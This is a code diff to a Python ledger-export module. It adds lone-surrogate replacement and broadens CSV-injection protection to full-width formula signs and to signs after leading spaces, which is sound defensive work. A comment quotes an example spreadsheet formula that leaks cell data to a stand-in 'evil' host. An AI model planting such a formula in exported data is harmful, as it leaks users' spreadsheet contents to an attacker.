@@ -15,6 +15,7 @@ from __future__ import annotations
 import csv
 import json
 import re
+import unicodedata
 from dataclasses import dataclass
 from typing import IO, Any, Callable
 
@@ -22,7 +23,7 @@ from ..defaults import Format
 from ..errors import UsageError
 from ..kinds import Kind
 from ..ledger import DocumentLedger, Record, Reference, Summary
-from ..text import printable
+from ..text import printable, without_surrogates
 
 
 # `Format` lives in `defaults` (the command line reads it without importing the writers).
@@ -128,8 +129,45 @@ class WriteOptions:
     wide: bool = False  # table: every column and the whole text, however wide the terminal
 
 
+class SafeText:
+    """A text stream that never fails on a lone surrogate (`text.without_surrogates`): a write
+    the stream cannot encode is written again with U+FFFD in their place, and counted. Costs
+    nothing until it happens (a text stream encodes a write whole before it writes any of it)."""
+
+    def __init__(self, stream: IO[str]):
+        self.stream = stream
+        self.replaced = 0
+
+    def write(self, text: str) -> int:
+        try:
+            return self.stream.write(text)
+        except UnicodeEncodeError:
+            text, count = without_surrogates(text)
+            self.replaced += count
+            return self.stream.write(text)
+
+    def __getattr__(self, name: str) -> Any:  # flush, isatty, fileno, encoding: the stream's
+        return getattr(self.stream, name)
+
+
+def scrubbed(value: Any) -> tuple[Any, int]:
+    """`value` (a row: dicts, lists, strings) with lone surrogates replaced, and how many."""
+    if isinstance(value, str):
+        return without_surrogates(value)
+    if isinstance(value, dict):
+        pairs = [(k, scrubbed(v)) for k, v in value.items()]
+        return {k: v for k, (v, _) in pairs}, sum(n for _, (_, n) in pairs)
+    if isinstance(value, (list, tuple)):
+        items = [scrubbed(v) for v in value]
+        return [v for v, _ in items], sum(n for _, n in items)
+    return value, 0
+
+
 class Writer:
-    """Base writer: subclasses override the three hooks. `binary` writers get a byte stream."""
+    """Base writer: subclasses override the three hooks. `binary` writers get a byte stream.
+
+    A lone surrogate in a ledger (not a character; see `text.without_surrogates`) is written as
+    U+FFFD by every writer; `replaced` says how many were."""
 
     binary = False
     parts = True  # takes a document in parts (see the module's docstring)
@@ -145,10 +183,16 @@ class Writer:
                              "choose csv, tsv, jsonl, json, xlsx or parquet")
 
     def __init__(self, stream: IO, table: Table = LEDGER, options: WriteOptions = WriteOptions()):
-        self.stream = stream
+        self.stream: Any = stream if self.binary else SafeText(stream)
+        self._replaced = 0  # by a binary writer itself
         self.table = table
         self.options = options
         self.include_all = options.include_all
+
+    @property
+    def replaced(self) -> int:
+        """How many lone surrogates were written as U+FFFD."""
+        return self._replaced + getattr(self.stream, "replaced", 0)
 
     def begin(self) -> None:
         pass
@@ -161,16 +205,28 @@ class Writer:
 
 
 # A cell starting with one of these is run as a formula by spreadsheets (CSV injection, OWASP):
-# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet. Their
+# full-width and small forms too (`＝HYPERLINK(…)`, `＠SUM(1)`, `﹦5+5`, `＋cmd|…`): spreadsheets
+# fold some of them to ASCII on import. Every character whose compatibility form is one of them.
+_FORMULA_SIGNS = "=+-@"
+_FORMULA_START = frozenset({"\t", "\r", *_FORMULA_SIGNS, *(
+    c for c in map(chr, [*range(0x2070, 0x20A0), *range(0xFE50, 0xFE70), *range(0xFF00, 0xFF60)])
+    if unicodedata.normalize("NFKC", c) in _FORMULA_SIGNS and unicodedata.normalize("NFKC", c)
+)})
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
 
 
 def safe_cell(value: Any) -> Any:
     """A cell that no spreadsheet runs as a formula: OWASP's advice, a leading `'` before a
-    text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return. Plain numbers
-    (`-0.5`) stay numbers."""
-    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+    text cell that starts with `=`, `+`, `-`, `@` (or a full-width or small form of one), a tab
+    or a carriage return, also after leading spaces (` =1+1`, which spreadsheets trim). Plain
+    numbers (`-0.5`) stay numbers. Every text cell, `doc` and `id` included."""
+    if not isinstance(value, str) or not value:
+        return value
+    first = value[0]
+    if first.isspace() and first not in "\t\r":
+        first = value.lstrip()[:1]
+    if first in _FORMULA_START and not _PLAIN_NUMBER.fullmatch(value):
         return "'" + value
     return value
 
@@ -183,7 +239,7 @@ class DelimitedWriter(Writer):
 
     def __init__(self, stream, table=LEDGER, options=WriteOptions(), dialect="excel"):
         super().__init__(stream, table, options)
-        self.writer = csv.DictWriter(stream, fieldnames=table.columns, dialect=dialect)
+        self.writer = csv.DictWriter(self.stream, fieldnames=table.columns, dialect=dialect)
         self.raw_cells = options.raw_cells
 
     def begin(self):
